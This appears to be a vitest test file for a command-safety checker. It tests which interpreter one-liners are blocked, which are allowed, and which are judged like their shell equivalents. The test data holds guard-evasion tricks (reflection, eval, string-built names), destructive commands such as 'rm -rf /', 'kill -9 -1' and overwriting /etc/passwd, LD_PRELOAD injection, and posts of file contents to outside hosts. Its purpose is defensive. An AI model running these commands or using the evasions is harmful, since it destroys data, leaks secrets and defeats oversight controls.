// Interpreter code judged by capability (issue 13): whatever can run programs, change files,
// signal, upload or evaluate — through aliases, attributes, reflection, computed names, eval or
// dynamic imports — blocks unless every use is a call with literal targets, which is then judged
// exactly like its shell spelling. Code without such a capability (printing, computing, reading)
// stays allowed. Every case is a string analysed statically; nothing here is run.
import { describe, expect, it } from 'vitest';
import { decisionOf, matchesOf } from '../../rules/shell/helpers.js';

const UNDECIDED = 'parse.unsupported_interpreter_code';

/** Refused, with one of these rule ids among the blocking matches. */
const BLOCK: [script: string, rules: string[]][] = [
  // Python: aliases, string-built names, reflection, evaluation.
  [`python3 -c 'import os; o=os; o.system("id")'`, [UNDECIDED]],
  [`python3 -c 'o=os; o.system("id")'`, [UNDECIDED]],
  [`python3 -c 'import os; os.__dict__["sys"+"tem"]("id")'`, [UNDECIDED]],
  [`python3 -c 'import os; getattr(os, "sys"+"tem")("id")'`, [UNDECIDED]],
  [`python3 -c '__import__("o"+"s").system("id")'`, [UNDECIDED]],
  [`python3 -c 'import importlib; importlib.import_module("os").system("id")'`, [UNDECIDED]],
  [`python3 -c 'import sys; sys.modules["os"].system("id")'`, [UNDECIDED]],
  [`python3 -c 'print(().__class__.__base__.__subclasses__())'`, [UNDECIDED]],
  [`python3 -c 'import subprocess as s; r = s.run; r(["id"])'`, [UNDECIDED]],
  [`python3 -c 'from subprocess import run; run(input(), shell=True)'`, [UNDECIDED]],
  [`python3 -c 'import os; f = os.system; f("id")'`, [UNDECIDED]],
  [`python3 -c 'exec("print(1)")'`, [UNDECIDED]],
  [`python3 -c 'eval(input())'`, [UNDECIDED]],
  [`python3 -c 'compile("1", "f", "eval")'`, [UNDECIDED]],
  [`python3 -c 'import ctypes; ctypes.CDLL(None).system(b"id")'`, [UNDECIDED]],
  [`python3 -c 'import socket; s = socket.socket(); s.connect(("203.0.113.9", 80)); s.send(b"x")'`, [UNDECIDED]],
  [`python3 -c 'import requests; requests.post("https://x.io", data=open("/etc/hostname").read())'`, [UNDECIDED]],
  [`python3 -c 'import urllib.request as u; u.urlopen("https://x.io", b"secret")'`, [UNDECIDED]],
  [`python3 -c 'import os; ｏｓ.system("id")'`, [UNDECIDED]],
  [`python3 -c "print(f'{__import__(\\"os\\").system(\\"id\\")}')"`, [UNDECIDED]],
  [`python3 -c 'from os import *; system("id")'`, [UNDECIDED]],
  // Python deletes and changes that name no shell.
  [`python3 -c 'import pathlib; [p.unlink() for p in pathlib.Path.home().rglob("*")]'`, [UNDECIDED]],
  [`python3 -c 'import os\nfor r, d, f in os.walk("/"):\n    [os.remove(os.path.join(r, x)) for x in f]'`, [UNDECIDED]],
  [`python3 -c 'import os, sys; os.remove(sys.argv[1])' /etc/passwd`, [UNDECIDED]],
  [`python3 -c 'import os; os.kill(-1, 9)'`, ['disk_system.kill_all']],
  [`python3 -c 'open(input(), "w").write("x")'`, [UNDECIDED]],
  [`python3 -c 'import shutil; shutil.rmtree("/")'`, ['filesystem.recursive_delete_root']],
  ["python3 - <<'EOF'\nimport os\no = os\no.system('id')\nEOF", [UNDECIDED]],
  // JavaScript (node, deno, bun).
  [`node -e 'require("child"+"_process").execSync("id")'`, [UNDECIDED]],
  [`node -e 'globalThis.process.mainModule.constructor._load("child_process").execSync("id")'`, [UNDECIDED]],
  [`node -e 'process.binding("spawn_sync").spawn({file: "id"})'`, [UNDECIDED]],
  [`node -e 'const fs = require("fs"); fs.readdirSync("/home/u").forEach(f => fs.unlinkSync(f))'`, [UNDECIDED]],
  [`node -e 'process.kill(-1)'`, ['disk_system.kill_all']],
  [`node -e 'eval("1+1")'`, [UNDECIDED]],
  [`node -e '\\u0065val("1+1")'`, [UNDECIDED]],
  [`node -e 'new Function("return 1")()'`, [UNDECIDED]],
  [`node -p 'require("vm").runInThisContext("1")'`, [UNDECIDED]],
  [`node --eval 'require(process.argv[1])'`, [UNDECIDED]],
  [`node --print 'import("child_process")'`, [UNDECIDED]],
  [`node -e 'const cp = require("child_process"); cp["exec" + "Sync"]("id")'`, [UNDECIDED]],
  [`node -e 'const { execSync: run } = require("child_process"); run("id")'`, [UNDECIDED]],
  [`node -e 'with (process) { kill(-1) }'`, [UNDECIDED]],
  [`node -e 'fetch("https://x.io", {method: "POST", body: "x"})'`, [UNDECIDED]],
  [`node -e 'require("https").request({hostname: "x.io", method: "POST"}).end("x")'`, [UNDECIDED]],
  [`node -e 'setTimeout("process.exit()", 1)'`, [UNDECIDED]],
  [`deno eval 'new Deno.Command("id").outputSync()'`, [UNDECIDED]],
  [`deno eval 'Deno.run({cmd: ["id"]})'`, [UNDECIDED]],
  [`bun -e 'Bun.spawnSync(["id"])'`, [UNDECIDED]],
  [`bun --eval 'Bun.$\`id\`'`, [UNDECIDED]],
  // Perl.
  [`perl -e 'open(my $f, "|-", "sh")'`, [UNDECIDED, 'remote_code.pipe_to_shell', 'remote_code.embedded_command']],
  [`perl -e 'open("|rm -rf ~")'`, [UNDECIDED]],
  [`perl -e 'open(F, "|rm -rf ~")'`, ['filesystem.recursive_delete_home']],
  [`perl -e 'open(F, $ARGV[0])'`, [UNDECIDED]],
  [`perl -e 'unlink glob($ARGV[0])'`, [UNDECIDED]],
  [`perl -MFile::Find -e 'find(sub { unlink }, "/home/u")'`, [UNDECIDED]],
  [`perl -e 'kill 9, -1'`, ['disk_system.kill_all']],
  [`perl -e 'my $c = "id"; print \`$c\`'`, [UNDECIDED]],
  [`perl -e 'qx{$ENV{CMD}}'`, [UNDECIDED]],
  [`perl -e 'eval $ARGV[0]'`, [UNDECIDED]],
  [`perl -e 'eval "system 1"'`, [UNDECIDED]],
  [`perl -e '&{"sys"."tem"}("id")'`, [UNDECIDED]],
  [`perl -e 'my $f = \\&CORE::system; $f->("id")'`, [UNDECIDED]],
  [`perl -e 'print "@{[ system(q(id)) ]}"'`, [UNDECIDED]],
  [`perl -e 's/x/$ENV{X}/ee'`, [UNDECIDED]],
  [`perl -MIPC::Open3 -e 'open3(my $i, my $o, 0, "id")'`, [UNDECIDED]],
  // Ruby.
  [`ruby -e 'x = "id"; puts \`#{x}\`'`, [UNDECIDED]],
  [`ruby -e 'puts %x(#{ARGV[0]})'`, [UNDECIDED]],
  [`ruby -e 'Dir.glob("/home/u/**/*").each { |f| File.delete(f) }'`, [UNDECIDED]],
  [`ruby -e 'send(:system, "id")'`, [UNDECIDED]],
  [`ruby -e 'Kernel.public_send("sys" + "tem", "id")'`, [UNDECIDED]],
  [`ruby -e 'method(:system).call("id")'`, [UNDECIDED]],
  [`ruby -e '["id"].each(&method(:system))'`, [UNDECIDED]],
  [`ruby -e 'open("|id")'`, [UNDECIDED]],
  [`ruby -e 'puts IO.read("|id")'`, [UNDECIDED]],
  [`ruby -e 'Process.kill(9, -1)'`, ['disk_system.kill_all']],
  [`ruby -e 'instance_eval("1")'`, [UNDECIDED]],
  [`ruby -e 'require ARGV[0]'`, [UNDECIDED]],
  // PHP.
  [`php -r 'array_map("system", ["id"]);'`, [UNDECIDED]],
  [`php -r 'array_map("sys"."tem", ["id"]);'`, [UNDECIDED]],
  [`php -r '(new ReflectionFunction("system"))->invoke("id");'`, [UNDECIDED]],
  [`php -r '$f = "sys"."tem"; $f("id");'`, [UNDECIDED]],
  [`php -r 'call_user_func("passthru", "id");'`, [UNDECIDED]],
  [`php -r 'eval("echo 1;");'`, [UNDECIDED]],
  [`php -r 'usort($a, "system");'`, [UNDECIDED]],
  [`php -r '("sys"."tem")("id");'`, [UNDECIDED]],
  [`php -r 'file_put_contents($argv[1], "x");'`, [UNDECIDED]],
  [`php -r 'SYSTEM($argv[1]);'`, [UNDECIDED]],
  [`php -r 'posix_kill(-1, 9);'`, ['disk_system.kill_all']],
  // Less common interpreters: known capabilities are judged, the rest blocks.
  [`Rscript -e 'system("rm -rf /")'`, ['filesystem.recursive_delete_root']],
  [`Rscript -e 'do.call("system", list("id"))'`, [UNDECIDED]],
  [`Rscript -e 'sapply("id", "system")'`, [UNDECIDED]],
  [`R -e 'unlink("/", recursive = TRUE)'`, ['filesystem.recursive_delete_root']],
  [`julia -e 'run(\`id\`)'`, [UNDECIDED]],
  [`julia -e 'rm(homedir(); recursive = true)'`, [UNDECIDED]],
  [`lua -e 'os.execute("rm -rf /")'`, ['filesystem.recursive_delete_root']],
  [`lua -e 'local f = os.execute; f("id")'`, [UNDECIDED]],
  [`lua -e 'os["exe".."cute"]("id")'`, [UNDECIDED]],
  [`pwsh -c 'Remove-Item -Recurse -Force /'`, [UNDECIDED]],
  [`pwsh -Command "iex 'id'"`, [UNDECIDED]],
  [`pwsh -c '[System.IO.File]::Delete("/etc/passwd")'`, [UNDECIDED]],
  [`pwsh -EncodedCommand ZQBjAGgAbwAgAGgAaQA=`, ['parse.dynamic_script']],
  [`osascript -e 'do shell script "id"'`, [UNDECIDED]],
  [`osascript -e 'tell application "Finder" to delete every item of home'`, [UNDECIDED]],
  [`osascript -l JavaScript -e 'Application.currentApplication().doShellScript("id")'`, [UNDECIDED]],
  [`groovy -e '"id".execute()'`, [UNDECIDED]],
  ['jshell <<\'EOF\'\nRuntime.getRuntime().exec("id")\nEOF', [UNDECIDED]],
  ["tclsh <<'EOF'\nexec id\nEOF", [UNDECIDED]],
  ["tclsh <<'EOF'\nset c exec\n$c id\nEOF", [UNDECIDED]],
  ["irb <<'EOF'\nsend(:system, 'id')\nEOF", [UNDECIDED]],
  // Modules reached as members, launchers, and programs run in an environment the code changed.
  [`python3 -c 'import os.path as p; p.os.remove(input())'`, [UNDECIDED]],
  [`python3 -c 'import logging; logging.os.kill(int(input()), 9)'`, [UNDECIDED]],
  [`ruby -e '::File.delete(ARGV[0])'`, [UNDECIDED]],
  [`ruby -e 'Object::File.delete(ARGV[0])'`, [UNDECIDED]],
  [`ruby -e 'Pathname.glob("*").each(&:unlink)'`, [UNDECIDED]],
  [`python3 -c 'import os; os.environ["LD_PRELOAD"] = "/tmp/x.so"; os.system("ls")'`, [UNDECIDED]],
  [`node -e 'process.env.NODE_OPTIONS = "--require /tmp/x.js"; require("child_process").execSync("node app.js")'`, [UNDECIDED]],
  [`ruby -e 'system({"LD_PRELOAD" => "/tmp/x.so"}, "ls")'`, [UNDECIDED]],
  [`python3 -c 'import subprocess; subprocess.run(["bash"], input="rm -rf ~", text=True)'`, [UNDECIDED]],
  [`python3 -c 'import timeit; timeit.timeit("__import__(\"os\").system(\"id\")")'`, [UNDECIDED]],
  [`php -r 'include "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOw==";'`, [UNDECIDED]],
  [
    `npx tsx -e 'require("child_process").execSync("rm -rf /")'`,
    [UNDECIDED, 'remote_code.embedded_command', 'filesystem.recursive_delete_root'],
  ],
  [`uv run python -c 'import os; o = os; o.system("id")'`, [UNDECIDED, 'remote_code.embedded_command']],
  // Options around the code: values we do not list, and flags that only look like --version.
  [`node --secure-heap 1 -e 'process.kill(-1)'`, ['disk_system.kill_all']],
  ["python3 -v <<'EOF'\nimport os\no = os\no.system('id')\nEOF", [UNDECIDED]],
];

/** Code with no capability beyond computing and reading. */
const ALLOW: string[] = [
  `python3 -c 'import json,sys; print(json.load(sys.stdin)["x"])'`,
  `node -e 'console.log(process.version)'`,
  `python3 -c 'print(1+1)'`,
  `perl -ne 'print if /x/' f`,
  `ruby -e 'puts 1'`,
  `node -p '1+1'`,
  `echo a | perl -pe 's/a/b/'`,
  `python -c 'import sys; print(sys.version)'`,
  `node -e 'JSON.parse(require("fs").readFileSync(0,"utf8"))'`,
  `node --print 'process.platform'`,
  `node --eval 'console.log([1, 2].map(x => x * 2))'`,
  `node -e 'console.log("a-b".split("-").map(s => s.toUpperCase()).join(" "))'`,
  `node -e 'console.log(/x/.exec("x"))'`,
  `node -e 'const x = 10 / 2; console.log(x)'`,
  `deno eval 'console.log(Deno.version)'`,
  `bun -e 'console.log(Bun.version)'`,
  `bun --eval 'console.log(1)'`,
  `python3 -c 'import os; print(os.getcwd(), os.listdir("."), os.environ.get("HOME"))'`,
  `python3 -c 'import os.path; print(os.path.join("a", "b"))'`,
  `python3 -c 'import re; print(re.sub("a", "b", "aaa"), "a".replace("a", "b"))'`,
  `python3 -c 'import urllib.request as u; print(u.urlopen("https://example.com").status)'`,
  `python3 -c 'import socket; print(socket.gethostname())'`,
  `python3 -c 'import platform; print(platform.system())'`,
  `python3 -c 'import torch; print(torch.__version__)'`,
  `python3 -c 'print(open("/etc/hostname").read())'`,
  `python3 -c 'import pathlib; print(pathlib.Path("README.md").read_text()[:80])'`,
  `perl -le 'print for 1..3'`,
  `perl -e 'print "system is fine\\n"'`,
  `perl -e 'my %h = (a => 1); print $h{a} / 2'`,
  `perl -e 'eval { die "x" }; print "ok"'`,
  `ruby -e 'require "json"; puts JSON.generate([1])'`,
  `ruby -e 'puts Dir["*"].size'`,
  `ruby -e 'puts File.read("README.md").lines.count'`,
  `php -r 'echo json_encode(["a" => 1]);'`,
  `php -r 'echo strtoupper("abc"), PHP_EOL;'`,
  `php -r 'usort($a, function ($x, $y) { return $x <=> $y; });'`,
  `php -r 'echo file_get_contents("composer.json");'`,
  `Rscript -e 'print(summary(c(1, 2, 3)))'`,
  `julia -e 'println(1 + 1)'`,
  `lua -e 'print(1)'`,
  `pwsh -c 'Get-ChildItem | Select-Object Name'`,
  `pwsh -NoProfile -Command 'Get-Process | Where-Object { $_.CPU -gt 10 } | Sort-Object CPU'`,
  `osascript -e 'display notification "done" with title "build"'`,
  `groovy -e 'println 1 + 1'`,
  "tclsh <<'EOF'\nputs [expr {1 + 2}]\nEOF",
  "jshell <<'EOF'\nSystem.out.println(1 + 1)\n/exit\nEOF",
  `python3 -c 'import importlib.metadata as m; print(m.version("pip"))'`,
  `node -e 'const p = require("./package.json"); console.log(p.version)'`,
  `node -e 'const { execSync } = require("child_process"); console.log(execSync("git rev-parse HEAD").toString())'`,
  `python3 -c 'import os; print(os.environ["HOME"]; os.system("ls")'`,
  "python3 - <<'EOF'\nimport json\nwith open('package.json') as f:\n    print(json.load(f)['name'])\nEOF",
];

/** Literal targets: judged like the shell command they equal (same decision, same rules). */
const LIKE_SHELL: [code: string, shell: string][] = [
  [`python3 -c "import shutil; shutil.rmtree('/tmp/build')"`, 'rm -rf /tmp/build'],
  [`python3 -c "import shutil; shutil.rmtree('/')"`, 'rm -rf /'],
  [`python3 -c "import os; os.system('ls')"`, 'ls'],
  [`python3 -c "import subprocess; subprocess.run(['git', 'status'])"`, 'git status'],
  [`python3 -c "import subprocess; subprocess.run(['git', 'push', '--force', 'origin', 'main'])"`, 'git push --force origin main'],
  [`python3 -c "import os; os.kill(-1, 9)"`, 'kill -9 -1'],
  [`node -e "process.kill(-1)"`, 'kill -- -1'],
  [`perl -e 'kill 9, -1'`, 'kill -9 -1'],
  [`ruby -e 'Process.kill(:KILL, -1)'`, 'kill -s KILL -1'],
  [`php -r 'posix_kill(-1, 9);'`, 'kill -9 -1'],
  [`python3 -c "import os; os.chmod('/usr/bin/sudo', 0o644)"`, 'chmod 644 /usr/bin/sudo'],
  [`node -e "require('fs').chmodSync('./build/run.sh', 0o755)"`, 'chmod 755 ./build/run.sh'],
  [`perl -e 'chmod 0755, "build/x"'`, 'chmod 755 build/x'],
  [`python3 -c "open('/etc/passwd', 'w').write('')"`, ': > /etc/passwd'],
  [`python3 -c "open('out.txt', 'w').write('x')"`, ': > out.txt'],
  [`python3 -c "import os; open(os.path.expanduser('~/.bashrc'), 'a').write('x')"`, 'echo x >> ~/.bashrc'],
  [`node -e "require('fs').renameSync('/etc/hosts', '/tmp/hosts')"`, 'mv /etc/hosts /tmp/hosts'],
  [`lua -e 'os.remove("/etc/passwd")'`, 'rm -f /etc/passwd'],
  [`R -e 'unlink("/", recursive = TRUE)'`, 'rm -rf /'],
  [`perl -e 'open(F, ">/etc/passwd")'`, ': > /etc/passwd'],
  [`perl -e 'open(F, "|rm -rf ~")'`, 'rm -rf ~'],
  [`ruby -e 'FileUtils.rm_rf(Dir.home)'`, 'rm -rf ~'],
  [`python3 -c "import shutil; shutil.copytree('/etc', 'etc-copy')"`, 'cp -r /etc etc-copy'],
  [`python3 -c "import os; os.symlink('/etc/passwd', 'p')"`, 'ln -s /etc/passwd p'],
  [`node -e "require('fs').rmSync('dist', {recursive: true, force: true})"`, 'rm -rf dist'],
  [`python3 -c "from shutil import rmtree; rmtree('dist')"`, 'rm -rf dist'],
  // Names bound by imports are what they import.
  [`python3 -c "import subprocess as sp; sp.run(['git', 'status'])"`, 'git status'],
  [`python3 -c "from subprocess import check_output; print(check_output(['git', 'push', '-f']))"`, 'git push -f'],
  [`python3 -c "from os import system as run; run('rm -rf ~')"`, 'rm -rf ~'],
  // Option clusters: `node -pe CODE` is -p and -e with CODE after them.
  [`node -pe "require('child_process').execSync('rm -rf /')"`, 'rm -rf /'],
  [`php -r 'SYSTEM("rm -rf /");'`, 'rm -rf /'],
];

describe('interpreter capabilities: evasions and undecidable uses block', () => {
  it.each(BLOCK)('%s', async (script, rules) => {
    const matches = await matchesOf(script);
    const summary = matches.map((m) => `${m.ruleId}(${m.risk}): ${m.reason}`).join('\n');
    expect(decisionOf(matches), summary).toBe('block');
    expect(
      matches.some((m) => rules.includes(m.ruleId)),
      `${rules.join(' | ')} among:\n${summary}`,
    ).toBe(true);
  });
});

describe('interpreter capabilities: code that only computes and reads is allowed', () => {
  it.each(ALLOW)('%s', async (script) => {
    const matches = await matchesOf(script);
    expect(decisionOf(matches), matches.map((m) => `${m.ruleId}: ${m.reason}`).join('\n')).toBe('allow');
  });
});

describe('interpreter capabilities: literal targets are judged like their shell spelling', () => {
  it.each(LIKE_SHELL)('%s ≡ %s', async (code, shell) => {
    const [inCode, inShell] = await Promise.all([matchesOf(code), matchesOf(shell)]);
    const summary = `code:\n${inCode.map((m) => `${m.ruleId}: ${m.reason}`).join('\n')}\nshell:\n${inShell.map((m) => m.ruleId).join('\n')}`;
    expect(decisionOf(inCode), summary).toBe(decisionOf(inShell));
    const blocking = (ms: typeof inCode) => ms.filter((m) => m.risk === 'CRITICAL' || m.risk === 'HIGH').map((m) => m.ruleId);
    for (const id of blocking(inShell)) expect(blocking(inCode), summary).toContain(id);
    expect(
      inCode.map((m) => m.ruleId),
      summary,
    ).not.toContain(UNDECIDED);
  });
});
